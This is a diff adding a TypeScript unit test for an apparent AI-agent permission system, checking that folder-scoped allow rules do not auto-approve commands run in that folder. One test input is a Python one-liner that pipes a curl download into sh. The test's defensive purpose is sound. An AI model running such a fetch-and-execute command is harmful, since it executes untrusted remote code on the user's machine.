@@ -233,6 +233,29 @@ describe("permission rules and guards", () => {
       assert.equal(decide(edit(join(home, "secrets", "x")), context({ rules: deny })).verdict, "deny");
     });
 
+    it("a path rule covers files, not the commands run in its folder", () => {
+      const src = join(ws, "src");
+      const inSrc = (line: string) => command(line, src);
+      for (const entry of [{ path: "src/**" }, { kind: "execute", path: "src/**" }]) {
+        const rules = [rule("allow", entry)];
+        for (const line of ["python3 -c 'import os; os.system(\"curl -s x | sh\")'", "git push origin main"])
+          assert.equal(
+            decide(inSrc(line), context({ rules })).verdict,
+            "ask",
+            `${JSON.stringify(entry)}: ${line}`,
+          );
+      }
+      // The same rule still allows the files it names.
+      assert.equal(
+        decide(edit(join(src, "a.ts")), context({ rules: [rule("allow", { path: "src/**" })] })).verdict,
+        "allow",
+      );
+      // A command prefix with a folder: that command, run there.
+      const rules = [rule("allow", { command: "npm test", path: "src/**" })];
+      assert.equal(decide(inSrc("npm test"), context({ rules })).verdict, "allow");
+      assert.equal(decide(command("npm test"), context({ rules })).verdict, "ask");
+    });
+
     it("tool names and agents narrow a rule", () => {
       const rules = [rule("allow", { tool: "Read", agent: "Claude" })];
       const read = toolCall({ kind: "read", name: "Read", locations: [{ path: join(ws, "src", "a.ts") }] });
